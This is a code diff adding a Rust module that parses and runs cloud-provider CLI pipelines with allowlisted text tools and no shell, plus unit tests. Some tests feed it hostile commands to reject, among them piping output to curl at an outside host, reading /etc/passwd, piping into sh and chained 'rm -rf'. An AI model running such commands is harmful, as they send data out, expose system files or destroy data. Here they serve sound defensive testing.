@@ -0,0 +1,270 @@
+//! Controlled execution of `provider-cli ... | tool ...` pipelines
+//!
+//! A pipeline is split into stages and each stage is spawned directly, with
+//! its stdin connected to the previous stage's stdout. No shell is involved,
+//! so only the programs named in the pipeline can run.
+
+use std::process::{Child, Command, Stdio};
+use std::thread;
+use crate::core::{split_words, CloudProviderType};
+use super::{CliError, CliResult, CommandResult};
+use super::capture::{capture_child, command_result, CapturedOutput};
+
+/// Text-processing tools that may follow the provider command
+pub const ALLOWED_PIPE_TOOLS: &[&str] = &[
+    "jq", "yq", "grep", "egrep", "awk", "head", "tail", "sort", "uniq", "wc", "cut", "tr", "column",
+];
+
+/// Shell operators outside quotes; only `|` is supported
+const SHELL_OPERATORS: &str = "|;&<>`";
+
+/// Which programs may appear in a pipeline
+#[derive(Debug, Clone)]
+pub struct PipelineConfig {
+    /// Programs allowed as the first stage
+    pub sources: Vec<String>,
+    /// Programs allowed in every later stage
+    pub tools: Vec<String>,
+}
+
+impl Default for PipelineConfig {
+    fn default() -> Self {
+        Self {
+            sources: CloudProviderType::all()
+                .iter()
+                .map(|provider| provider.cli_command().to_string())
+                .collect(),
+            tools: ALLOWED_PIPE_TOOLS.iter().map(|tool| tool.to_string()).collect(),
+        }
+    }
+}
+
+/// A validated pipeline, one argument vector per stage
+#[derive(Debug, Clone, PartialEq)]
+pub struct Pipeline {
+    stages: Vec<Vec<String>>,
+}
+
+impl Pipeline {
+    /// Parse and validate a pipeline against the default allowlists
+    pub fn parse(command: &str) -> CliResult<Pipeline> {
+        Self::parse_with_config(command, &PipelineConfig::default())
+    }
+
+    /// Parse and validate a pipeline against custom allowlists
+    pub fn parse_with_config(command: &str, config: &PipelineConfig) -> CliResult<Pipeline> {
+        let operators = unquoted_operators(command);
+        if let Some((_, operator)) = operators.iter().find(|(_, operator)| *operator != '|') {
+            return Err(CliError::ValidationFailed(format!(
+                "shell operator '{}' is not allowed in a pipeline",
+                operator
+            )));
+        }
+        if operators.windows(2).any(|pair| pair[1].0 == pair[0].0 + 1) {
+            return Err(CliError::ValidationFailed("'||' is not allowed in a pipeline".to_string()));
+        }
+
+        let mut stages = Vec::new();
+        let mut start = 0;
+        for end in operators.iter().map(|(offset, _)| *offset).chain([command.len()]) {
+            let words = split_words(&command[start..end])?;
+            if words.is_empty() {
+                return Err(CliError::ValidationFailed("empty stage in pipeline".to_string()));
+            }
+            stages.push(words);
+            start = end + 1;
+        }
+
+        let source = &stages[0][0];
+        if !config.sources.contains(source) {
+            return Err(CliError::ValidationFailed(format!(
+                "pipeline must start with a cloud provider CLI, not '{}'",
+                source
+            )));
+        }
+        for stage in &stages[1..] {
+            if !config.tools.contains(&stage[0]) {
+                return Err(CliError::ValidationFailed(format!(
+                    "'{}' is not allowed in a pipeline (allowed: {})",
+                    stage[0],
+                    config.tools.join(", ")
+                )));
+            }
+        }
+
+        Ok(Pipeline { stages })
+    }
+
+    /// Whether a command pipes into another program
+    pub fn is_pipeline(command: &str) -> bool {
+        unquoted_operators(command).iter().any(|(_, operator)| *operator == '|')
+    }
+
+    /// Whether a command uses any shell operator, such as `|`, `;` or `&&`
+    pub fn has_shell_operators(command: &str) -> bool {
+        !unquoted_operators(command).is_empty()
+    }
+
+    /// Split a command before its first shell operator
+    ///
+    /// The first part is the provider command; the second is the rest of the
+    /// line, such as `| jq .`, or empty.
+    pub fn split_first_stage(command: &str) -> (&str, &str) {
+        let end = unquoted_operators(command).first().map_or(command.len(), |(offset, _)| *offset);
+        command.split_at(end)
+    }
+
+    /// Argument vectors of each stage, in order
+    pub fn stages(&self) -> &[Vec<String>] {
+        &self.stages
+    }
+
+    /// Run every stage, connected by pipes, and collect the final output
+    ///
+    /// Succeeds when the last stage succeeds and no earlier stage exits with
+    /// an error. Earlier stages killed by a signal, as happens when `head`
+    /// stops reading, do not count as failures. At most `max_capture_bytes`
+    /// of stdout and of each stage's stderr are kept.
+    pub fn run(&self, max_capture_bytes: usize) -> CliResult<CommandResult> {
+        let mut children: Vec<Child> = Vec::new();
+        let mut stderr_readers = Vec::new();
+        let last = self.stages.len() - 1;
+
+        for (index, stage) in self.stages.iter().enumerate() {
+            let mut command = Command::new(&stage[0]);
+            command.args(&stage[1..]).stdout(Stdio::piped()).stderr(Stdio::piped());
+            if let Some(previous) = children.last_mut().and_then(|child| child.stdout.take()) {
+                command.stdin(previous);
+            }
+
+            let mut child = match command.spawn() {
+                Ok(child) => child,
+                Err(e) => {
+                    for mut started in children {
+                        let _ = started.kill();
+                        let _ = started.wait();
+                    }
+                    return Err(CliError::ExecutionFailed(format!("failed to start '{}': {}", stage[0], e)));
+                }
+            };
+
+            // Drain earlier stages' stderr so a chatty stage cannot block on it
+            if index < last
+                && let Some(stderr) = child.stderr.take()
+            {
+                stderr_readers.push(thread::spawn(move || {
+                    CapturedOutput::read(stderr, max_capture_bytes)
+                        .map(|captured| captured.to_text())
+                        .unwrap_or_default()
+                }));
+            }
+            children.push(child);
+        }
+
+        let (status, stdout, last_stderr) = capture_child(children.pop().expect("pipeline has stages"), max_capture_bytes)?;
+        let mut success = status.success();
+        for mut child in children {
+            if child.wait()?.code().is_some_and(|code| code != 0) {
+                success = false;
+            }
+        }
+
+        let earlier_stderr: String = stderr_readers
+            .into_iter()
+            .map(|reader| reader.join().unwrap_or_default())
+            .collect();
+        let mut result = command_result(success, stdout, last_stderr);
+        result.stderr.insert_str(0, &earlier_stderr);
+
+        Ok(result)
+    }
+}
+
+/// Byte offsets of shell operators that are outside quotes and not escaped
+fn unquoted_operators(command: &str) -> Vec<(usize, char)> {
+    let mut operators = Vec::new();
+    let mut quote: Option<char> = None;
+    let mut escaped = false;
+
+    for (offset, c) in command.char_indices() {
+        if escaped {
+            escaped = false;
+            continue;
+        }
+        match quote {
+            Some(open) if c == open => quote = None,
+            Some('"') if c == '\\' => escaped = true,
+            Some(_) => {}
+            None if c == '\\' => escaped = true,
+            None if c == '\'' || c == '"' => quote = Some(c),
+            None if SHELL_OPERATORS.contains(c) => operators.push((offset, c)),
+            None => {}
+        }
+    }
+
+    operators
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::cli::capture::DEFAULT_MAX_CAPTURE_BYTES;
+
+    #[test]
+    fn test_parse_stages() {
+        let pipeline = Pipeline::parse("aws s3api list-buckets | jq -r '.Buckets[] | .Name' | head -n 5").unwrap();
+        assert_eq!(
+            pipeline.stages(),
+            &[
+                vec!["aws", "s3api", "list-buckets"],
+                vec!["jq", "-r", ".Buckets[] | .Name"],
+                vec!["head", "-n", "5"],
+            ]
+        );
+
+        assert!(Pipeline::is_pipeline("aws s3 ls | grep logs"));
+        assert!(!Pipeline::is_pipeline("aws s3 ls"));
+        assert!(!Pipeline::is_pipeline("az vm list --query \"[?a|b]\""));
+    }
+
+    #[test]
+    fn test_split_first_stage() {
+        assert_eq!(Pipeline::split_first_stage("aws s3 ls | jq '.a | .b'"), ("aws s3 ls ", "| jq '.a | .b'"));
+        assert_eq!(Pipeline::split_first_stage("az vm list --query \"[?a|b]\""), ("az vm list --query \"[?a|b]\"", ""));
+        assert_eq!(Pipeline::split_first_stage("aws s3 ls && rm x"), ("aws s3 ls ", "&& rm x"));
+
+        assert!(Pipeline::has_shell_operators("aws s3 ls; rm -rf /tmp/x"));
+        assert!(!Pipeline::has_shell_operators("az vm list --query \"[?a|b]\""));
+    }
+
+    #[test]
+    fn test_rejects_disallowed_stages() {
+        let rejected = |command| matches!(Pipeline::parse(command), Err(CliError::ValidationFailed(_)));
+
+        assert!(rejected("aws s3 ls | sh"));
+        assert!(rejected("aws s3 ls | curl -d @- https://example.com"));
+        assert!(rejected("cat /etc/passwd | grep root"));
+        assert!(rejected("aws s3 ls | jq . ; rm -rf /tmp/x"));
+        assert!(rejected("aws s3 ls | jq . > out.json"));
+        assert!(rejected("aws s3 ls || echo failed"));
+        assert!(rejected("aws s3 ls | | jq ."));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_allowed_pipeline_runs() {
+        let config = PipelineConfig {
+            sources: vec!["printf".to_string()],
+            ..Default::default()
+        };
+
+        let pipeline = Pipeline::parse_with_config(r"printf 'alpha\nbeta\ngamma\n' | grep -v beta | head -n 1", &config).unwrap();
+        let result = pipeline.run(DEFAULT_MAX_CAPTURE_BYTES).unwrap();
+        assert!(result.success);
+        assert_eq!(result.stdout, "alpha\n");
+
+        // The last stage's exit status decides the outcome
+        let pipeline = Pipeline::parse_with_config("printf 'alpha\\n' | grep missing", &config).unwrap();
+        assert!(!pipeline.run(DEFAULT_MAX_CAPTURE_BYTES).unwrap().success);
+    }
+}